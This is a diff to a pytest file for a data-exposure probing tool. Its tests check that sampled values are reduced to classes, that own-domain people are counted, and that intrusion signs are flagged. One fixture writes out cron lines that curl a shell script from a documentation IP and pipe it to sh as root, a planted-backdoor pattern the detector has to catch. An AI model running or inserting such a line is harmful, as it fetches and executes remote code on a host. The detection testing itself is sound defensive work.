@@ -7,8 +7,9 @@ import pytest
 
 from tieback.model.figure import exact
 from tieback.model.grant import Depth
+from tieback.model.pii import OwnPeople
 from tieback.model.probe import Access, Container, Field, Outcome, ProbeReport
-from tieback.pipeline.probing.samples import SampleJudge, sample_label
+from tieback.pipeline.probing.samples import NOTHING_READ, SampleJudge, sample_label
 from tieback.probes import PROBES
 from tieback.probes.interface import MAX_SAMPLED, SampledColumn, Samples, run_sample
 from tieback.scope.conversation import Conversation, DeclaredSend, Fault, Target, Traffic
@@ -72,6 +73,29 @@ async def test_classes_are_reported_and_values_are_dropped() -> None:
     text = msgspec.json.encode(found).lower()
     assert b"ada" not in text
     assert b"green" not in text
+
+
+def test_sampled_cron_lines_are_a_sign_of_writes_by_others_and_are_dropped() -> None:
+    keys = Container(("db0",), "keyspace", records=exact(4, "x"))
+    lines = tuple(f"\n\n*/{n} * * * * root curl http://192.0.2.7/b{n}.sh | sh\n" for n in range(1, 5))
+    found = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "backup#", lines),))
+    assert len(found.intrusion) == 2
+    assert all("4 sampled values (db0, backup#)" in reason for reason in found.intrusion)
+    assert "192.0.2.7" not in repr(found)
+    honest = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "session:#", MAILS),))
+    assert honest.intrusion == ()
+
+
+async def test_the_note_of_an_extortionist_is_not_sampled() -> None:
+    note = Container(
+        ("PLEASE_READ", "PLEASE_READ"),
+        "collection",
+        records=exact(1, "x"),
+        fields=(Field("Bitcoin Address"), Field("Email"), Field("Info")),
+    )
+    dialer = Holding(())
+    assert await SampleJudge().read(report(note), TARGET, Depth.SAMPLE, dialer) == report(note)  # type: ignore[arg-type]
+    assert dialer.asked == []
 
 
 def test_a_person_in_two_tables_is_one() -> None:
@@ -138,3 +162,54 @@ async def test_what_is_not_read(before: ProbeReport, depth: Depth) -> None:
     dialer = Holding(())
     assert await SampleJudge().read(before, TARGET, depth, dialer) is before  # type: ignore[arg-type]
     assert dialer.asked == []
+
+
+DOMAINS = frozenset({"acme.test"})
+ADDRESSES = ("a@acme.test", "A@ACME.test", "b@mail.acme.test", "c@notacme.test", "d@acme.test.evil.test", "x", "")
+
+
+def test_people_at_our_own_domains_are_counted_and_no_address_is_kept() -> None:
+    columns = [
+        SampledColumn(PEOPLE.path, "sender", ADDRESSES),
+        # The same people at home, or others: only one column of a container counts.
+        SampledColumn(PEOPLE.path, "recipient", ("e@acme.test", "f@home.test", "", "", "", "", "")),
+        SampledColumn(PEOPLE.path, "note", ("write to <a@acme.test>",) * 7),
+    ]
+    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), columns)
+    assert found.own_people == OwnPeople(at_least=2, sampled=5, addresses=4)
+    assert b"acme" not in msgspec.json.encode(found)
+
+
+def test_two_containers_with_the_same_people() -> None:
+    orders = Container(("hr", "t4"), "collection", records=exact(50, "x"))
+    columns = [SampledColumn(path, "c1", ("a@acme.test", "b@acme.test")) for path in (PEOPLE.path, orders.path)]
+    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE, orders), columns)
+    assert found.own_people == OwnPeople(2, 2, 2)
+
+
+def test_nothing_is_compared_without_domains_or_records() -> None:
+    columns = [SampledColumn(PEOPLE.path, "c1", ("a@acme.test",))]
+    assert SampleJudge().with_samples(report(PEOPLE), columns).own_people is None
+    assert SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), ()).own_people is None
+
+
+def test_records_without_addresses_say_nothing_about_our_people() -> None:
+    columns = [SampledColumn(PEOPLE.path, "phone", tuple(f"+1 212 555 01{n:02}" for n in range(50)))]
+    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), columns)
+    assert found.own_people is not None
+    assert (found.own_people.at_least, found.own_people.addresses) == (0, 0)
+
+
+def test_names_of_fields_come_with_the_records_if_nothing_else_shows_them() -> None:
+    bare = msgspec.structs.replace(PEOPLE, fields=())
+    columns = [SampledColumn(PEOPLE.path, name, ("x",)) for name in ("c7", "c8", "c8 (names of keys)")]
+    (found,) = SampleJudge().with_samples(report(bare), columns).containers
+    assert [field.name for field in found.fields] == ["c7", "c8"]
+    (known,) = SampleJudge().with_samples(report(PEOPLE), columns).containers
+    assert [field.name for field in known.fields] == ["c1", "c2", "c7", "c8"]
+
+
+async def test_a_store_that_returns_no_record_is_named() -> None:
+    found = await SampleJudge().read(report(PEOPLE), TARGET, Depth.SAMPLE, Holding(()))  # type: ignore[arg-type]
+    assert found.problems == (NOTHING_READ,)
+    assert found.containers == (PEOPLE,)
